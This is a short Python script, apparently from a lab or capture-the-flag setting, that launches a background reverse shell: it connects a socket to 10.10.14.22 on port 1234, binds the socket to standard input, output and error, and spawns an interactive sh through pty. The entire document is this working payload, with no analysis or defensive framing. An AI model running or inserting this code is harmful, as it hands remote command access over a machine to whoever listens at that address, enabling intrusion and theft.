import os

lhost, lport = "10.10.14.22", 1234
code = (
    f"import socket,os,pty;s=socket.socket();s.connect(('{lhost}',{lport}));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"
)
os.system(f"python3 -c \"{code}\" &")
